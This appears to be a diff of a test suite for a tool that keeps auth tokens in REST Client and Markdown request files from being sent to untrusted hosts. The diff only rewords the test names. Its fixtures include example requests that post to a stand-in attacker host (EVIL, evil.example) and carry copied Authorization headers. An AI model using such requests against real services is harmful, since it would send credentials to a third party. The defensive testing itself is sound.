@@ -58,7 +58,7 @@ describe('threats: references that REST Client resolves', () => {
     keptFromLeaving(4, http(`POST ${EVIL}`, 'A: 1', '', `@t = ${REFERENCE}`), OURS);
   });
 
-  it('row 54: a file that is sent with its variables replaced may hold any reference, and all are withheld', () => {
+  it('row 54: a file that is sent with its variables replaced may contain any reference, and all are withheld', () => {
     keptFromLeaving(3, http(`POST ${EVIL}`, '', '<@ ./payload.txt'), other(TENANT, HEADER));
     keptFromLeaving(5, http('@a = @', '', `POST ${EVIL}`, '', '<{{a}} ./payload.txt'), other(TENANT, HEADER));
     for (const line of [
@@ -72,16 +72,16 @@ describe('threats: references that REST Client resolves', () => {
     keptFromLeaving(1, http('@a = 1\\n<@ ./payload.txt', '', `POST ${EVIL}`, '', '{{a}}'), other(TENANT, HEADER));
   });
 
-  it('row 55: a fence of Markdown is one request whatever is in it, and a token in what looks like the second is withheld', () => {
+  it('row 55: a Markdown fence is one request whatever it contains, and a token in an apparent second one is withheld', () => {
     keptFromLeaving(7, markdown('# Notes', '```http', `POST ${EVIL}`, '', '###', TENANT, HEADER, '```'));
     keptFromLeaving(4, markdown('```http', `POST ${EVIL}`, '###', TENANT, HEADER, '```'));
   });
 
-  it('row 56: what looks like a separator and is none ends no request, and the token below it is withheld', () => {
+  it('row 56: a line that only looks like a separator ends no request, and the token below it is withheld', () => {
     for (const start of ['\uFEFF', ' ', '\u00a0']) keptFromLeaving(5, http(`POST ${EVIL}`, '', `${start}###`, TENANT, HEADER));
   });
 
-  it('row 57: a cURL command in other words than a few is not understood, and its token is withheld', () => {
+  it('row 57: a cURL command with uncommon options is not understood, and its token is withheld', () => {
     const option = `-H '${HEADER}'`;
     for (const command of [
       'curl -L=https://evil.example https://acme.example',
@@ -98,7 +98,7 @@ describe('threats: references that REST Client resolves', () => {
     assert.deepEqual([...judged([http(`curl 'https://acme.example/x' ${option} --compressed`)], model).wanted], [NAME]);
   });
 
-  it('row 58: what REST Client remembers of a request that has a name is a use of its token, and withholds it', () => {
+  it('row 58: what REST Client remembers of a named request counts as a use of its token, and withholds it', () => {
     const named = ['# @name who', TENANT, HEADER, '', '###'];
     keptFromLeaving(7, http(...named, `GET ${EVIL}`, 'X-Seen: {{who.request.headers.Authorization}}'));
     keptFromLeaving(8, http(...named, '@t = {{who.request.headers.Authorization}}', `GET ${EVIL}`, 'X-Seen: {{t}}'));
